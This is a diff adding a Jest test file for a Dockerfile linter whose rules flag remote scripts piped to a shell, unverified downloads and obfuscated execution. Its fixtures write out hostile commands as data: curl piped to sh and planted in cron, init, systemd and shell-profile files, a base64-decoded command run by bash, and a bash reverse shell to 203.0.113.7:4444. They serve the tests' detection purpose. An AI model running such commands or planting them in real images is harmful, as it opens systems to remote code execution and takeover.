@@ -1,0 +1,96 @@
+import { describe, expect, it } from '@jest/globals';
+import downloadUnverified from '../../../src/rules/supply-chain/downloads/download-unverified.ts';
+import obfuscatedExec from '../../../src/rules/supply-chain/downloads/obfuscated-exec.ts';
+import rule from '../../../src/rules/supply-chain/downloads/remote-script-exec.ts';
+import { checkText, messagesOf } from '../../support/example.ts';
+
+const PIPE = 'curl -fsSL https://get.example.com/a | sh';
+const SCRIPT = `#!/bin/sh\n${PIPE}\n`;
+const DEFAULTS = [{}, {}, undefined] as const;
+
+const found = (from: typeof rule, text: string, files: Readonly<Record<string, string>> = {}) =>
+  checkText(from, 'Dockerfile', `FROM debian:12\n${text}\n`, DEFAULTS[0], DEFAULTS[1], DEFAULTS[2], files).findings;
+
+/** Each path with the text of a file in which a shell runs the pipe. */
+const STARTED: readonly (readonly [string, string])[] = [
+  ['/etc/services.d/app/run', `#!/usr/bin/with-contenv bash\n${PIPE}\n`],
+  ['/etc/s6-overlay/s6-rc.d/app/run', `#!/command/with-contenv sh\n${PIPE}\n`],
+  ['/etc/s6-overlay/scripts/prepare', SCRIPT],
+  ['/etc/cont-init.d/10-a', SCRIPT],
+  ['/custom-cont-init.d/a', SCRIPT],
+  ['/etc/service/app/run', SCRIPT],
+  ['/etc/my_init.d/a.sh', SCRIPT],
+  ['/docker-entrypoint.d/10-a.sh', SCRIPT],
+  ['/docker-entrypoint-initdb.d/a.sh', PIPE],
+  ['/etc/cron.daily/a', SCRIPT],
+  ['/etc/periodic/15min/a', SCRIPT],
+  ['/etc/cron.d/a', `SHELL=/bin/sh\n# ${PIPE}\n*/5 * * * * root ${PIPE}\n`],
+  ['/etc/crontab', `@daily root ${PIPE}\n`],
+  ['/var/spool/cron/crontabs/root', `0 3 * * mon-fri ${PIPE}\n`],
+  ['/etc/crontabs/root', `0 3 * * * ${PIPE}\n`],
+  ['/etc/supervisor/conf.d/a.conf', `[program:a]\ncommand = sh -c "${PIPE}"\n`],
+  ['/etc/supervisord.conf', `[program:a]\ncommand=bash -c '${PIPE}'\n`],
+  ['/etc/systemd/system/a.service', `[Service]\nExecStartPre=-/bin/sh -c '${PIPE}'\nExecStart=/app\n`],
+  ['/etc/profile.d/a.sh', PIPE],
+  ['/root/.bashrc', PIPE],
+  ['/home/app/.profile', PIPE],
+  ['/etc/rc.local', SCRIPT],
+  ['/etc/init.d/a', SCRIPT],
+];
+
+describe('files that something starts', () => {
+  it.each(STARTED)('are read where COPY writes them: %s', (path, text) => {
+    expect(found(rule, `COPY <<"E" ${path}\n${text}\nE`)).toHaveLength(1);
+  });
+
+  it.each(STARTED)('are read where they come from the context: %s', (path, text) => {
+    const folder = path.slice(0, path.lastIndexOf('/') + 1);
+    const name = path.slice(folder.length);
+    expect(found(rule, `COPY a/${name} ${path}`, { [`a/${name}`]: text })).toHaveLength(1);
+    expect(found(rule, `COPY a/${name} ${folder}`, { [`a/${name}`]: text })).toHaveLength(1);
+    expect(found(rule, `COPY root/ /`, { [`root${path}`]: text })).toHaveLength(1);
+    expect(found(rule, `COPY a /a\nRUN mkdir -p ${folder} && cp /a/x ${path}`, { 'a/x': text })).toHaveLength(1);
+  });
+
+  it.each(STARTED)('are left alone elsewhere, and where no shell reads them: %s', (path, text) => {
+    const elsewhere = `/srv/x${path}`.replace('supervis', 'a');
+    expect(found(rule, `COPY <<"E" ${elsewhere}\n${text}\nE`)).toEqual([]);
+    expect(found(rule, `COPY <<"E" ${path}\n#!/usr/bin/python3\n# ${PIPE}\nE`)).toEqual([]);
+  });
+
+  it.each([
+    `RUN printf '#!/bin/sh\\n${PIPE}\\n' > /etc/services.d/a/run`,
+    `RUN echo '* * * * * root ${PIPE}' >> /etc/cron.d/a`,
+    `RUN echo '${PIPE}' >> ~/.bashrc`,
+    `RUN cat > /etc/profile.d/a.sh <<E\n${PIPE}\nE`,
+    `RUN echo '${PIPE}' | tee /etc/my_init.d/a`,
+    `ENV BASH_ENV=/x.sh\nRUN echo '${PIPE}' > /x.sh`,
+    `ENV ENV=/etc/shrc\nCOPY <<E /etc/shrc\n${PIPE}\nE`,
+  ])('are read where RUN writes them: %s', (text) => expect(found(rule, text)).toHaveLength(1));
+
+  it('are read of the stage that writes them alone', () => {
+    const text = `COPY <<E /etc/my_init.d/a\n${PIPE}\nE\nFROM a\nRUN true`;
+    expect(checkText(rule, 'Dockerfile', `FROM debian:12 AS a\n${text}\n`).findings).toHaveLength(1);
+  });
+
+  it('are named in the message, with the place in their file', () => {
+    const files = { 'etc/run': SCRIPT };
+    expect(messagesOf(rule, 'Dockerfile', 'FROM debian:12\nCOPY etc/run /etc/services.d/a/run\n', files)).toEqual([
+      'This Dockerfile has a file at /etc/services.d/a/run that runs what curl fetches from get.example.com with sh, and nothing checks what that is.',
+    ]);
+    expect(found(rule, 'COPY etc/run /etc/services.d/a/run', files)[0]?.span.file.path).toBe('etc/run');
+  });
+
+  it('may save what they fetch first, or hide it', () => {
+    const saved = 'curl -o /a https://get.example.com/a; sh /a';
+    expect(found(downloadUnverified, `COPY <<E /etc/my_init.d/a\n${saved}\nE`)).toHaveLength(1);
+    const hidden = 'echo ZWNobyBoZWxsbwo= | base64 -d | bash';
+    expect(found(obfuscatedExec, `COPY <<E /etc/my_init.d/a\n${hidden}\nE`)).toHaveLength(1);
+    expect(found(obfuscatedExec, `CMD ${hidden}`)).toHaveLength(1);
+    expect(found(obfuscatedExec, `CMD ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]`)).toHaveLength(1);
+  });
+});
+
+it('reads a script of the context that ONBUILD runs', () => {
+  expect(found(rule, 'COPY x.sh /x.sh\nONBUILD RUN sh /x.sh # curl', { 'x.sh': SCRIPT })).toHaveLength(1);
+});
